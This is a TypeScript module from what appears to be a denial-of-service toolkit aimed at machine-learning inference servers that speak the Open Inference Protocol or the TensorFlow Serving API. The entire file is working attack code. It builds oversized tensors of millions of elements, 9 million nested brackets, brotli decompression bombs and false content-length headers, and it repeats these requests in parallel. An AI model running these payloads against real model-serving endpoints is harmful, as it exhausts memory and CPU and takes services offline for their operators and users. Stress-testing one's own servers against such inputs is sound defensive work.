/** Inferences in the words of the Open Inference Protocol and of TensorFlow Serving that make much of few bytes. */

import type { Attack } from "../attack.ts";
import { type Call, repeatCalls } from "../http1-calls.ts";
import { brotli, filledWith } from "../payloads.ts";

/** Calls that are under way at one time. */
const places = 4;
const inferPath = "/v2/models/digits/infer";
const predictPath = "/v1/models/digits:predict";

/** An inference whose one input has these elements. */
const infer = (data: string) =>
  `{"inputs":[{"name":"image","shape":[1,1,28,28],"datatype":"FP32","data":[${data}]}]}`;
const instances = (data: string) => `{"instances":[${data}]}`;
const many = (unit: string) => `${filledWith(`${unit},`)}${unit}`;

function plain(path: string, text: string): Call {
  return { path, headers: { "content-type": "application/json" }, body: Buffer.from(text) };
}

function compressed(path: string, text: string): Call {
  const headers = { "content-type": "application/json", "content-encoding": "br" };
  return { path, headers, body: brotli(Buffer.from(text)) };
}

/** Repeats these calls. */
function repeats(name: string, about: string, make: () => readonly Call[]): Attack {
  return { name, about, run: (target) => repeatCalls(target, places, make()) };
}

const bothWith = (data: string) => [
  plain(inferPath, infer(data)),
  plain(predictPath, instances(data)),
];

/** Attacks by what single inferences hold. */
export const tensorAttacks: readonly Attack[] = [
  repeats("tensor-numbers", "inferences of 5 million numbers, of a million long ones", () => [
    ...bothWith(many("1")),
    ...bothWith(many("0.1428571492433548")),
    ...bothWith(many("9007199254740993")),
  ]),
  repeats("tensor-lists", "inferences of 3 million lists, and of lists within each other", () => [
    ...bothWith(many("[1]")),
    ...bothWith(many("[]")),
    ...bothWith("[".repeat(9_000_000)),
  ]),
  repeats("tensor-texts", "inferences of 3 million texts, of base64", () => [
    ...bothWith(many('""')),
    plain(predictPath, instances(many('{"b64":""}'))),
    plain(predictPath, `{"inputs":{"image":{"b64":"${filledWith("QUFB")}"}}}`),
  ]),
  repeats("tensor-bombs", "the same numbers and lists, compressed to some bytes", () => [
    compressed(inferPath, infer(many("1"))),
    compressed(predictPath, instances(many("[1]"))),
  ]),
  repeats("tensor-sizes", "bytes whose sizes are none, and a head as long as the body", () => [
    {
      path: inferPath,
      headers: { "inference-header-content-length": "9900000" },
      body: filledWith(" "),
    },
    {
      path: inferPath,
      headers: { "inference-header-content-length": "2" },
      body: Buffer.concat([Buffer.from("{}"), filledWith("x", 9_000_000)]),
    },
  ]),
];
